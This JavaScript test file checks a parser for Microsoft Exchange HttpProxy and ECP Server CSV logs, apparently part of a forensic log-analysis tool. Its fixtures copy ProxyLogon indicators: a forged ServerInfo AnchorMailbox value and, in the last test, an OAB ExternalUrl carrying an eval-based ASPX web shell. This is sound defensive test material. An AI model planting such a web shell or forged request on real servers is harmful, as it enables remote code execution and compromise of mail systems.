// Tests for Exchange CSV logs: header line and #Fields, quoting, repeated headers, ECP event data, #Version.

import assert from 'node:assert/strict';
import test from 'node:test';
import { parseWith } from '../parse-text.js';

const FIELDS = 'DateTime,RequestId,UrlStem,UrlQuery,AnchorMailbox,UserAgent,ClientIpAddress,HttpStatus';
const HEADER = `${FIELDS}\r\n#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: HttpProxy Logs\r\n#Date: 2021-03-03T06:00:00.000Z\r\n#Fields: ${FIELDS}\r\n`;

test('takes columns by name and reads quoted fields with commas and doubled quotes', () => {
  const text =
    '\ufeff' +
    HEADER +
    '2021-03-03T06:49:42.162Z,r1,/ecp/y.js,?a=1,"ServerInfo~a]@x:444/ecp/proxyLogon.ecp?#","UA, with ""quotes""",1.2.3.4 10.0.0.1,241\r\n';
  const { records, problems, versions } = parseWith(
    'httpproxy',
    'HttpProxy/Ecp/HttpProxy_2021030306-1.LOG',
    text,
    5,
  );
  assert.deepEqual(problems, []);
  assert.equal(records.length, 1);
  const r = records[0];
  assert.equal(r?.get('UserAgent'), 'UA, with "quotes"');
  assert.equal(r?.get('clientipaddress'), '1.2.3.4 10.0.0.1');
  assert.equal(r?.get('Uri'), '/ecp/y.js?a=1');
  assert.equal(r?.time, '2021-03-03T06:49:42.162Z');
  assert.equal(r?.line, 7);
  assert.deepEqual(versions, [{ build: '15.01.2176.002', time: '2021-03-03T06:00:00.000Z' }]);
});

test('skips a header row repeated as data and follows a changed column set', () => {
  const text =
    HEADER +
    `${FIELDS}\r\n` +
    '#Fields: DateTime,HttpStatus,UrlStem\r\n' +
    '2021-03-03T07:00:00.000Z,200,/owa/\r\n';
  const { records, problems } = parseWith('httpproxy', 'HttpProxy/Owa/x.LOG', text);
  assert.deepEqual(problems, []);
  assert.equal(records.length, 1);
  assert.equal(records[0]?.get('UrlStem'), '/owa/');
  assert.equal(records[0]?.get('AnchorMailbox'), undefined);
});

test('reports rows with the wrong column count and an unclosed quote at the end', () => {
  const text =
    HEADER + '2021-03-03T07:00:00.000Z,r,/a,,x,UA,1.2.3.4,200,extra\r\n2021-03-03T07:00:01.000Z,r,"open';
  const { records, problems } = parseWith('httpproxy', 'p.LOG', text);
  assert.equal(records.length, 0);
  assert.deepEqual(
    problems.map((p) => [p.code, p.line]),
    [
      ['csv.bad-line', 7],
      ['csv.unclosed-quote', 8],
    ],
  );
});

test('a row cut short is read with the columns it has, and said so', () => {
  const text = HEADER + '2021-03-03T07:00:00.000Z,r1,/ecp/y.js,,ServerInfo~a]@x:444/mapi/emsmdb/?#\r\n';
  const { records, problems } = parseWith('httpproxy', 'p.LOG', text);
  assert.deepEqual(
    problems.map((p) => [p.code, p.line, p.severity]),
    [['csv.short-row', 7, 'warning']],
  );
  assert.equal(records[0]?.get('AnchorMailbox'), 'ServerInfo~a]@x:444/mapi/emsmdb/?#');
  assert.equal(records[0]?.get('HttpStatus'), undefined);
});

test("Export-Csv's #TYPE line: the quoted header row after it names the columns", () => {
  const text =
    '#TYPE Selected.System.Management.Automation.PSCustomObject\r\n' +
    '"DateTime","RequestId","AnchorMailbox","HttpStatus"\r\n' +
    '"2021-03-03T06:49:46.210Z","r1","ServerInfo~a]@x:444/ecp/proxyLogon.ecp?#","241"\r\n';
  const { records, problems } = parseWith('httpproxy', 'HttpProxy/Ecp/HttpProxy_2021030306-1.LOG', text);
  assert.deepEqual(problems, []);
  assert.equal(records.length, 1);
  assert.equal(records[0]?.get('HttpStatus'), '241');
  assert.equal(records[0]?.time, '2021-03-03T06:49:46.210Z');
});

test('joins a quoted value that spans lines', () => {
  const text = HEADER + '2021-03-03T07:00:00.000Z,r,/owa/,,"a\r\nb",UA,1.2.3.4,200\r\n';
  const { records, problems } = parseWith('httpproxy', 'p.LOG', text);
  assert.deepEqual(problems, []);
  assert.equal(records[0]?.get('AnchorMailbox'), 'a\nb');
});

test('parses ECP Server event data, whose values may contain semicolons', () => {
  const text =
    '#Software: Microsoft Exchange Server\r\n#Log-type: ECP Server Log\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n' +
    `2021-03-03T06:49:53.772Z,EX01,ECP.Request,"S:TIME=13;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script>function Page_Load(){eval(Request[""k""],""unsafe"");}</script>'.Identity='x';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=abc"\r\n`;
  const { records, problems } = parseWith('ecp-server', 'ECP/Server/ECPServer20210303-1.LOG', text);
  assert.deepEqual(problems, []);
  const r = records[0];
  assert.match(
    String(r?.get('CMD')),
    /^Set-OabVirtualDirectory\.ExternalUrl='http:\/\/f\/<script>.*unsafe"\);}<\/script>'\.Identity='x'$/,
  );
  assert.equal(r?.get('URL'), '/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=abc');
  assert.equal(r?.get('REQID'), '');
});
